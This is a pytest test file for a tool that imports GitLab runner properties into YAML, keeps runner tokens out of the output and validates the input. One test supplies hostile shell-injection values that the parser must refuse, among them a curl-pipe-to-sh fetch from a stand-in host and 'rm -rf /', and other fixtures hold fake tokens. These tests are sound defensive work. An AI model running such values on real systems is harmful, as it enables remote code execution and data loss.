"""Seed import: the properties file is data, never code; tokens never reach the YAML."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from runnerfleet.envfile.properties import import_properties, parse_properties
from runnerfleet.errors import SpecError

SEED = """\
# sample-runner.properties
VpcID=vpc-0a1b2c3d4e5f60718
SubnetIds=subnet-0a1b2c3d4e5f60711,subnet-0a1b2c3d4e5f60712
ImageId=ami-0d5eff06f840b45e9
InstanceType=t3.medium
VolumeSize=200
VolumeType=gp2
MaxSize=4
MinSize=1
DesiredCapacity=1
MaxBatchSize=1
MinInstancesInService=1
MaxInstanceLifetime=604800
GitlabServerURL="https://gitlab.com"
DockerImagePath="registry.gitlab.com/exampleuser/gitlab-runner:latest"
RunnersToken=glrt-tok1aaaaaaaaaaaa,glrt-tok2bbbbbbbbbbbb
RunnerEnvironment=dev
LambdaS3Bucket=my-artifacts-bucket
Concurrent=2
CheckInterval=3
CostCenter=10000
AppId=1111
"""


def test_import_maps_every_key_and_moves_tokens(tmp_path: Path) -> None:
    path = tmp_path / "seed.properties"
    path.write_text(SEED)
    result = import_properties(path, account_id="123456789012", region="us-east-1")
    env = result.environment
    text = yaml.safe_dump(env)
    assert "glrt-" not in text
    assert env["capacity"] == {
        "min": 1,
        "max": 4,
        "desired": 1,
        "rolling_update": {"max_batch_size": 1, "min_in_service": 1},
    }
    assert env["network"]["subnet_ids"] == ["subnet-0a1b2c3d4e5f60711", "subnet-0a1b2c3d4e5f60712"]
    assert env["tags"] == {"CostCenter": "10000", "AppId": "1111"}
    assert [r["token"]["ssm_parameter"] for r in env["registrations"]] == [
        "/runnerfleet/runnerfleet-dev/runners/runner-1",
        "/runnerfleet/runnerfleet-dev/runners/runner-2",
    ]
    assert sum("NOT copied" in w for w in result.warnings) == 2
    assert not any("glrt-tok" in w for w in result.warnings)


def test_imported_file_validates(tmp_path: Path) -> None:
    from runnerfleet.envfile import load_environment

    path = tmp_path / "seed.properties"
    path.write_text(SEED)
    out = tmp_path / "dev.yaml"
    out.write_text(
        yaml.safe_dump(
            import_properties(path, account_id="123456789012", region="us-east-1").environment
        )
    )
    assert load_environment(out).capacity.max == 4


@pytest.mark.parametrize(
    "line",
    [
        "VpcID=$(curl http://evil.example/x | sh)",
        "VpcID=`id`",
        "VpcID=vpc-1; rm -rf /",
        "VpcID=${HOME}",
    ],
)
def test_shell_code_is_refused(tmp_path: Path, line: str) -> None:
    path = tmp_path / "bad.properties"
    path.write_text(f"MinSize=1\n{line}\n")
    with pytest.raises(SpecError) as info:
        parse_properties(path)
    assert "bad.properties:2" in str(info.value) and "shell code" in str(info.value)


def test_non_assignment_lines_are_all_reported(tmp_path: Path) -> None:
    path = tmp_path / "bad.properties"
    path.write_text("echo hello\nMinSize=1\nsource other.sh\n")
    with pytest.raises(SpecError) as info:
        parse_properties(path)
    assert [p.split(": ")[0].rsplit(":", 1)[1] for p in info.value.problems] == ["1", "3"]


@pytest.mark.parametrize(
    "text", ["", "\n\n", "# only a comment\n"], ids=["empty", "blank", "comment"]
)
def test_a_file_without_settings_is_refused(tmp_path: Path, text: str) -> None:
    path = tmp_path / "empty.properties"
    path.write_text(text)
    with pytest.raises(SpecError) as info:
        import_properties(path, account_id="123456789012", region="us-east-1")
    assert info.value.problems == [
        f"{path}:1: (file): no KEY=value line in the file; fix: give the seed's properties file "
        "(VpcID=..., SubnetIds=..., GitlabServerURL=...)"
    ]


def test_non_utf8_is_refused_with_its_line(tmp_path: Path) -> None:
    path = tmp_path / "latin1.properties"
    path.write_bytes(b"MinSize=1\nInstanceName=caf\xe9\n")
    with pytest.raises(SpecError) as info:
        parse_properties(path)
    assert info.value.problems == [
        f"{path}:2: (file): not UTF-8 text (byte 0xe9 at offset 26); fix: save the file as UTF-8"
    ]


@pytest.mark.parametrize(
    ("account", "region", "fragment"),
    [
        ("12", "us-east-1", "--account-id: '12' is not an AWS account id"),
        ("123456789012", "mars-1", "--region: unknown AWS region 'mars-1'"),
        ("123456789012", "us-est-1", "did you mean 'us-east-1' or 'us-west-1'?"),
    ],
)
def test_account_and_region_are_checked(
    tmp_path: Path, account: str, region: str, fragment: str
) -> None:
    path = tmp_path / "seed.properties"
    path.write_text(SEED)
    with pytest.raises(SpecError) as info:
        import_properties(path, account_id=account, region=region)
    assert any(fragment in p for p in info.value.problems)


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("GitlabServerURL=https://oauth2:glpat-abcdefghijklmnopqrst@gl.example", "GitLab personal"),
        ("GitlabServerURL=https://deploy:s3cr3t-pass@gitlab.example.com", "password in a URL"),
        ("DockerImagePath=registry.example.com/x:gldt-abcdefghijklmnop", "GitLab deploy token"),
        ("AppId=glptt-abcdefghijklmnopqrst", "GitLab pipeline trigger token"),
        ("SomethingElse=glcbt-64_abcdefghijklmnop", "GitLab CI/CD job token"),
    ],
)  # fmt: skip
def test_secrets_outside_the_token_keys_are_refused_unechoed(
    tmp_path: Path, line: str, kind: str
) -> None:
    path = tmp_path / "seed.properties"
    path.write_text(SEED + line + "\n")
    with pytest.raises(SpecError) as info:
        import_properties(path, account_id="123456789012", region="us-east-1")
    [problem] = info.value.problems
    line_number = SEED.count("\n") + 1
    assert problem.startswith(
        f"{path}:{line_number}: {line.split('=', maxsplit=1)[0]}: the value holds a {kind}"
    )
    assert line.split("=", 1)[1] not in str(info.value)
